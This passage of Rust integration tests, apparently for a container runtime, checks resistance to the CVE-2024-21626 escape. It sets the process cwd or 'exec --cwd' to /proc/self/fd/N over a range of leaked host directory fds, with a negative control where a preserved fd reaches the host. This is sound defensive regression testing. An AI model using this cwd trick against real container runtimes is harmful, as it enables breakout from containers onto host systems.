    assert!(out.stdout.contains("cwd-done"), "{ctx}");
    assert!(!out.stdout.contains(mark), "{ctx}");
    let link = field(&out.stdout, "cwd-link ").unwrap_or("");
    assert!(
        link.starts_with('/') && !link.contains("unreachable"),
        "{ctx}"
    );
    for host_only in [
        "config.json",
        "state.json",
        "cgroup.procs",
        "HOSTMARK",
        "rootfs",
    ] {
        assert!(!out.stdout.contains(host_only), "{ctx}");
    }
    format!("fd {n}: ran with cwd {link}")
}

/// process.cwd and `exec --cwd` set to `/proc/self/fd/N` (the CVE-2024-21626 trick: a
/// directory fd the runtime still holds at chdir time) with host directory fds planted in
/// the runtime: refused, or the cwd is inside the container.
#[test]
fn cve_2024_21626_cwd_proc_self_fd_stays_inside() {
    let env = Env::new();
    let (hostdir, mark) = host_marker_dir(&env);
    let mut seen = Vec::new();
    for n in 3..=12u32 {
        let cwd = format!("/proc/self/fd/{n}");
        let b = env.bundle_with(&["sh", "-c", CWD_PROBE], |c| {
            c["process"]["cwd"] = json!(cwd)
        });
        mark_bundle(&b, &mark);
        let id = env.id(&format!("run{n}"));
        let out = env.rt_opts(&["run", "--bundle", b.path(), &id], planted(&hostdir));
        seen.push(format!("run {}", check_cwd_attempt(&out, &mark, n)));
        // Resolving the cwd never made the runtime create anything on the host.
        assert!(
            fs::read_dir(&hostdir).unwrap().count() == 1,
            "host dir changed"
        );
        let inside = b.rootfs().join(hostdir.strip_prefix("/").unwrap());
        if inside.exists() {
            seen.push(format!(
                "  (run {n}: {} was created inside the rootfs)",
                hostdir.display()
            ));
        }
        env.rt(&["delete", "--force", &id]);
        env.assert_nothing_left(&id);
    }
    let b = env.bundle(&["sleep", "1000"]);
    mark_bundle(&b, &mark);
    let id = env.id("exec");
    env.rt_opts(&["run", "-d", "--bundle", b.path(), &id], planted(&hostdir))
        .success();
    for n in 3..=12u32 {
        let cwd = format!("/proc/self/fd/{n}");
        let out = env.rt_opts(
            &["exec", "--cwd", &cwd, &id, "sh", "-c", CWD_PROBE],
            planted(&hostdir),
        );
        seen.push(format!("exec {}", check_cwd_attempt(&out, &mark, n)));
    }
    // The container is unharmed by the refusals.
    env.rt(&["exec", &id, "true"]).success();
    env.rt(&["delete", "--force", &id]).success();
    env.assert_nothing_left(&id);
    eprintln!("{}", seen.join("\n"));
}

/// Negative control: a host directory fd deliberately preserved (`--preserve-fds 1`) IS
/// reachable with the very paths the tests above probe, from the init and from exec. And
/// even then tong refuses to start a process whose cwd is that fd (its cwd check, not the
/// fd hygiene, stops it).
#[test]
fn cve_2024_21626_control_preserved_host_fd_is_reachable() {
    let env = Env::new();
    let (hostdir, mark) = host_marker_dir(&env);
    let probe = FD_PROBE.replace("@MARK@", &mark);
    let one = || Opts {
        extra_fds: vec![fs::File::open(&hostdir).unwrap()],
        ..Default::default()
    };

    let b = env.bundle(&["sh", "-c", &probe]);
    let id = env.id("run");
    let out = env.rt_opts(
        &["run", "--preserve-fds", "1", "--bundle", b.path(), &id],
        one(),
    );
    out.success();
    assert!(out.stdout.contains("REACHED-HOST fd 3\n"), "{out:#?}");
    assert!(out.stdout.contains("REACHED-HOST cd 3\n"), "{out:#?}");
    env.assert_nothing_left(&id);

    let b = env.bundle(&["sleep", "1000"]);
    let id = env.id("exec");
    env.rt(&["run", "-d", "--bundle", b.path(), &id]).success();
    let out = env.rt_opts(
        &["exec", "--preserve-fds", "1", &id, "sh", "-c", &probe],
        one(),
    );
    out.success();
    assert!(out.stdout.contains("REACHED-HOST fd 3\n"), "{out:#?}");
    assert!(out.stdout.contains("REACHED-HOST cd 3\n"), "{out:#?}");

    // The cwd variant with the preserved fd.
    let out = env.rt_opts(
        &[
            "exec",
            "--preserve-fds",
            "1",
            "--cwd",
            "/proc/self/fd/3",
            &id,
            "sh",
            "-c",
            CWD_PROBE,
        ],
        one(),
    );
    eprintln!("exec --preserve-fds 1 --cwd /proc/self/fd/3: {out:#?}");
    if !is_runc() {
        out.failure();
        assert!(out.stderr.contains("outside the container"), "{out:#?}");
    }
    env.rt(&["delete", "--force", &id]).success();
    env.assert_nothing_left(&id);

    let b = env.bundle_with(&["sh", "-c", CWD_PROBE], |c| {
        c["process"]["cwd"] = json!("/proc/self/fd/3")
    });
    let id = env.id("runcwd");
    let out = env.rt_opts(
        &["run", "--preserve-fds", "1", "--bundle", b.path(), &id],
        one(),
    );
    eprintln!("run --preserve-fds 1, cwd /proc/self/fd/3: {out:#?}");
    if !is_runc() {
        // Refused either when the cwd is made (a /proc link is never recreated in the
        // rootfs) or when it is entered (outside the container).
        out.failure();
        assert!(
            out.stderr.contains("outside the container")
                || out.stderr.contains("is a link in /proc"),
            "{out:#?}"
        );
    }
    env.rt(&["delete", "--force", &id]);
    env.assert_nothing_left(&id);
}
